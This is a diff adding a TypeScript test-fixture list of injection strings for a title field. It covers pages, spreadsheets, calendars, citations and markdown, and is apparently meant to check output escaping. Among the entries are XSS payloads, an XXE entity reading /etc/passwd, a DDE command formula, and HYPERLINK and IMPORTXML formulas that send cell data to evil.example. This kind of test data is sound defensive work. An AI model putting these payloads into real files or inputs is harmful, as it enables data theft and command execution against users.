@@ -1,0 +1,51 @@
+import type { Attack } from './attack.ts';
+
+/** Words in a field, here a title: they go into pages, tables, calendars, feeds, scripts of data and drawings. */
+export const WORDS: readonly Attack[] = [
+  // For pages and what stands in their elements and attributes.
+  ['<script>__canary=1</script>', 'harmless'],
+  ['</title><script>__canary=1</script>', 'harmless'],
+  ['</script><script>__canary=1</script>', 'harmless'],
+  ['</SCRIPT\t><img src=x onerror=__canary=1>', 'invisible-character'],
+  ['<!--<script>__canary=1', 'harmless'],
+  ['" onmouseover="__canary=1', 'harmless'],
+  ["' onfocus='__canary=1' autofocus='", 'harmless'],
+  ['"><img src=x onerror=__canary=1>', 'harmless'],
+  ['</style></textarea></noscript><svg onload=__canary=1>', 'harmless'],
+  ['&lt;script&gt;__canary=1&lt;/script&gt;', 'harmless'],
+  ['&#60;img src=x onerror=__canary=1&#62;', 'harmless'],
+  ['{globalThis.__canary=1} ${__canary=1} {{__canary=1}}', 'placeholder'],
+  [']]><script>__canary=1</script><![CDATA[', 'harmless'],
+  ['<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', 'harmless'],
+  ['\\u003cscript\\u003e__canary=1\\u003c/script\\u003e', 'harmless'],
+  // For spreadsheets.
+  ['=1+1', 'harmless'],
+  ["=cmd|' /C calc'!A0", 'harmless'],
+  ['=HYPERLINK("https://evil.example/?"&A1,"x")', 'harmless'],
+  ['+1+cmd', 'harmless'],
+  ['-2+3+cmd', 'harmless'],
+  ['@SUM(1+1)', 'harmless'],
+  ['＝1+1', 'harmless'],
+  ["'=1+1", 'harmless'],
+  ['",=1+1,"', 'harmless'],
+  ['=IMPORTXML("https://evil.example/","//a")', 'harmless'],
+  // For calendars, feeds, citations and headers, which are read by lines.
+  ['Một\r\nEND:VEVENT\r\nBEGIN:VALARM', 'invisible-character'],
+  ['Một\nATTACH:https://evil.example/', 'harmless'],
+  ['Một\\nEND:VEVENT', 'harmless'],
+  ['Một;X-A=1:hai,ba\\', 'harmless'],
+  ['}, url = {https://evil.example/}, x = {', 'harmless'],
+  ['TY  - JOUR ER  - ', 'harmless'],
+  // For readers' eyes and for programs that compare.
+  ['Một \u202Eiah', 'invisible-character'],
+  ['Một\u200Bhai', 'invisible-character'],
+  ['Một\u0000hai', 'invisible-character'],
+  ['Một\u001B[31mhai', 'invisible-character'],
+  ['Một\u0085hai', 'invisible-character'],
+  ['Một\u2028__canary=1', 'invisible-character'],
+  ['\uFEFFMột', 'invisible-character'],
+  ['Một \uD800 hai', 'invisible-character'],
+  ['[x](javascript:__canary=1)', 'markdown-in-value'],
+  ['**Một** hai', 'markdown-in-value'],
+  ['![x](https://evil.example/a.png)', 'harmless'],
+];
